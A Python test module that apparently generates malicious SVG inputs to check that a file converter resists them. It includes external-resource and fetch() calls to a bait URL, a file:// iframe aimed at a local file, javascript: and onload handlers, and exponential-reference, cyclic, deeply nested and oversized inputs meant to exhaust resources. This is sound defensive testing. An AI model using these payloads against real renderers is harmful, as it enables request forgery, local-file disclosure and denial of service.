# ruff: noqa: E501 - a payload reads best in one piece
"""SVG that points outside, runs, or grows (recipe 5)."""

from __future__ import annotations

from makers.attack import ANY, CONVERTED, EITHER, LARGE, Attack, Bait, Twin, ends
from makers.packages import XML

_HEAD = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inner: str, size: str = 'width="60" height="60"', prologue: str = "") -> bytes:
    return f"{XML}{prologue}<svg {_HEAD} {size}>{inner}<rect width='9' height='9' fill='red'/></svg>".encode()


def _links(bait: Bait) -> bytes:
    inner = "".join(
        f'<image href="{link}" width="9" height="9"/><image xlink:href="{link}" width="9" height="9"/><use href="{link}#a"/>'
        f'<style>@import url("{link}");@font-face{{font-family:x;src:url("{link}")}}text{{font-family:x;fill:url("{link}#a")}}'
        f'</style><filter id="f"><feImage href="{link}"/></filter><rect width="9" height="9" filter="url(#f)" fill="url({link}#g)"'
        f' mask="url({link}#m)" clip-path="url({link}#c)"/><text>x</text><tref xlink:href="{link}"/><textPath href="{link}#t"/>'
        f'<animate href="{link}"/><cursor xlink:href="{link}"/><color-profile xlink:href="{link}"/><pattern href="{link}#p"/>'
        for link in bait.links
    )
    return svg(inner, prologue=f'<?xml-stylesheet href="{bait.url}/s.css"?>')


def _scripts(bait: Bait) -> bytes:
    return svg(
        f'<script>fetch("{bait.url}/s")</script><script href="{bait.url}/s.js"/><foreignObject width="50" height="50"><iframe '
        f'xmlns="http://www.w3.org/1999/xhtml" src="file://{bait.file}"/><img xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{bait.url}/i"/></foreignObject><a href="javascript:alert(1)"><text y="20">x</text></a>'
        f'<set attributeName="onload" to="alert(1)"/>'
    )


def _doubling(bait: Bait) -> bytes:
    groups = "".join(f'<g id="g{n}"><use href="#g{n - 1}"/><use href="#g{n - 1}"/></g>' for n in range(1, 31))
    return svg(f'<defs><rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g30"/>')


_CYCLES = (
    '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><pattern id="p" href="#q" width="1" height="1"/><pattern id="q" '
    'href="#p"><rect width="5" height="5" fill="url(#q)"/></pattern><mask id="m" mask="url(#m)"><rect width="5" height="5" mask='
    '"url(#m)"/></mask><rect width="9" height="9" fill="url(#p)" mask="url(#m)"/><use href="#a"/>'
)
_TILE = (
    '<pattern id="p" patternUnits="userSpaceOnUse" width="1e-9" height="1e-9"><rect width="1" height="1"/></pattern>'
    '<rect width="1e9" height="1e9" fill="url(#p)"/><filter id="f" x="-1e9" width="2e9" height="2e9"><feGaussianBlur stdDeviation'
    '="1e9"/><feMorphology radius="1e9"/><feTurbulence numOctaves="1000000"/></filter><rect width="50" height="50" filter="url(#f)"/>'
    '<path stroke-dasharray="1e-9" stroke="red" d="M0 0L1e9 1e9"/>'
)

ATTACKS = (
    Attack("svg-links", "a.svg", _links, ("png", "pdf"), ("B22",), EITHER),
    Attack("svg-scripts", "a.svg", _scripts, ("png", "pdf"), ("B22",)),
    Attack("svg-doubling", "a.svg", _doubling, ("png", "pdf"), ("B22",), ANY),
    Attack("svg-cycles", "a.svg", lambda _: svg(_CYCLES), ("png", "pdf"), ("B22",), ANY),
    Attack("svg-tiny-tile", "a.svg", lambda _: svg(_TILE), ("png", "pdf"), ("B22",), ANY),
    Attack("svg-nested", "a.svg", lambda _: svg("<g>" * 300_000 + "</g>" * 300_000), ("png",), ("B22",),
           ends("corrupt_input", CONVERTED)),
    Attack("svg-many", "a.svg", lambda _: svg('<rect width="1" height="1"/>' * 300_000), ("png",), ("B22",), ANY),
    Attack("svg-vast", "a.svg", lambda _: svg("", 'width="1e9" height="1e9"'), ("png",), ("B21",), LARGE | {"corrupt_input"}),
)  # fmt: skip

TWINS = (
    Twin("svg with use, style and a picture inside", "a.svg", lambda: svg(
        '<style>.a{fill:blue}</style><g id="g"><rect class="a" width="5" height="5"/></g><use href="#g" x="9"/><image width="9" '
        'height="9" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGOoAgAAggCBd81yTgAAAABJRU5'
        'ErkJggg=="/>'), "png", "", ("B22",)),
)  # fmt: skip
